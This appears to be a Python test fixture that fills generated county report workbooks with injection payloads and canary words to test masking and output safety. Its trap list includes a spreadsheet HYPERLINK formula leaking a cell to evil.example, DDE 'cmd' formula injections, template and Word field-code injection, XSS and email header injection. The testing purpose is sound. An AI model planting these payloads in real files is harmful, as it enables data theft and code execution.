"""A county's workbook full of traps for whoever reads the outputs, and of canaries.

This module owns what stands in each text of the workbook, and remembers where: `Canary`
says which column of which row holds a word that may be seen by some levels only. It refuses
to know what the service makes of it.
"""

from __future__ import annotations

import datetime as dt
import io
import itertools
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from random import Random
from typing import cast

from sheetflow.campaigns import load_campaign
from sheetflow.demo.draft import Draft, plan_typing, type_workbook
from sheetflow.masks import MaskPolicy
from sheetflow.periods import Period
from sheetflow.sample_maker import make_samples
from sheetflow.schemas.campaign import Scene, Typed
from sheetflow.schemas.cells import IdNumber, NameKey, Phone, Text
from sheetflow.schemas.columns import Column
from sheetflow.schemas.conditions import Row
from sheetflow.schemas.sheets import Kind, Sheet
from sheetflow.units import THREE_LEVELS, Unit, UnitTree
from tests.masked import see

CAMPAIGN = load_campaign("grassroots2012")
PERIOD = Period.parse("2012B1")
FORM = CAMPAIGN.main_form
_ISSUED = CAMPAIGN.in_force(FORM, PERIOD)

_EQUALS = "等号"
"""Stands for ``=`` until the file is saved: the program that types would make it a formula."""

TRAPS = (
    f'{_EQUALS}HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ 7*7 }}{% for x in y %}{{ x.__class__ }}",
    "{{r 雷 }}{%p if 1 %}<w:fldSimple w:instr='DATE'/>",
    "</w:t><w:instrText>INCLUDETEXT evil</w:instrText>",
    "<r><t>x</t></r>",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "http://evil.example/a mailto:a@evil.example",
    '&[Picture]&G&P&"宋体"[[evil]]$(x)`x`',
    "a\nBcc: x@evil.example",
)
HARMLESS = tuple(f"寻常文字{number}" for number in range(len(TRAPS)))


@dataclass(frozen=True, slots=True)
class Canary:
    """A word that stands in one cell of one unit's workbook."""

    word: str
    unit_id: str
    sheet: Sheet
    column: Column
    row: dict[str, Typed]

    def may_be_seen(self, unit: Unit) -> bool:
        """Whether the outputs of `unit` may hold it, as the declarations say."""
        if unit.unit_id == self.unit_id:
            return True
        seen = see(MaskPolicy(THREE_LEVELS, unit.level), self.sheet, cast("Row", self.row))
        return self.word in str(seen.get(self.column.key))


@dataclass
class Poisoned:
    """A draft that is poisoned, and its canaries."""

    draft: Draft
    canaries: list[Canary] = field(default_factory=list)


def poisoned(unit: Unit, tree: UnitTree, traps: tuple[str, ...], seed: int) -> Poisoned:
    """Draft a workbook for `unit` with `traps` in all its texts and a canary in each cell of words."""
    random = Random(seed)  # noqa: S311 - made-up data
    samples = make_samples(CAMPAIGN, _ISSUED, Scene(unit, tree, PERIOD, random, 24))
    result = Poisoned(Draft.of(_ISSUED, unit, PERIOD, samples))
    numbers = itertools.count(1)
    turns = itertools.cycle(traps)
    names = set(_names(result.draft))
    for sheet, column, row in _cells(result.draft):
        value = row.get(column.key)
        if not isinstance(value, str) or value in names:
            continue
        word = value
        if isinstance(column.type, Text) and not isinstance(column.type, NameKey):
            bird = "雀" if column.personal else "鹂"
            word = f"{bird}{unit.unit_id[-1]}{next(numbers):04d}"
            said = word if column.personal else f"{next(turns)}{word}"
            if len(said) > column.type.limit:
                said = word
            row[column.key] = said
        elif not isinstance(column.type, IdNumber | Phone):
            continue
        if not column.quotable:
            result.canaries.append(Canary(word, unit.unit_id, sheet, column, row))
    return result


def _names(draft: Draft) -> Iterator[Typed]:
    """The names by which rows are known: other cells repeat them."""
    for sheet in draft.sheets:
        for column in sheet.columns:
            if isinstance(column.type, NameKey):
                yield from (row[column.key] for row in draft.rows[sheet.key] if column.key in row)


def _cells(draft: Draft) -> Iterator[tuple[Sheet, Column, dict[str, Typed]]]:
    """The cells that a clerk fills with words, cover and answers left out."""
    for sheet in draft.sheets:
        if sheet.kind in {Kind.ANSWER, Kind.INDICATORS} or sheet.key == FORM.cover.sheet:
            continue
        for column in sheet.columns:
            if column.is_key or column.prefilled or column.refers_to:
                continue
            for row in draft.rows[sheet.key]:
                yield sheet, column, row


def spoil_persons(found: Poisoned) -> None:
    """Break identity numbers and phones, so that findings have something not to quote."""
    for canary in found.canaries:
        if isinstance(canary.column.type, IdNumber):
            canary.row[canary.column.key] = canary.word[:-1]
        elif isinstance(canary.column.type, Phone):
            canary.row[canary.column.key] = canary.word[:-1] + "六"
    found.canaries = [
        Canary(
            str(canary.row[canary.column.key])
            if isinstance(canary.column.type, IdNumber | Phone)
            else canary.word,
            canary.unit_id,
            canary.sheet,
            canary.column,
            canary.row,
        )
        for canary in found.canaries
    ]


def typed(found: Poisoned, issued: Path, target: Path) -> bytes:
    """Type the draft into the issued workbook, with texts that begin like formulas."""
    type_workbook(plan_typing(found.draft, issued, target))
    source = target.read_bytes()
    result = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(result, "w") as new:
        for entry in old.infolist():
            new.writestr(entry, old.read(entry).replace(_EQUALS.encode(), b"="))
    return result.getvalue()


def moment() -> dt.datetime:
    """When everybody reports: in time."""
    return dt.datetime(2012, 3, 2, 10)  # noqa: DTZ001 - the office's own time, as --at gives it


ROWS = (
    ("370000", "山东省", "省", None),
    ("370100", "济南市", "市", "370000"),
    ("370102", "历下区", "县", "370100"),
    ("370103", "市中区", "县", "370100"),
)
TREE = UnitTree.of(
    Unit(
        unit_id=unit_id,
        name=name,
        level=level,
        parent=parent,
        mails=(f"fulian-{unit_id}@mail.example",),
    )
    for unit_id, name, level, parent in ROWS
)
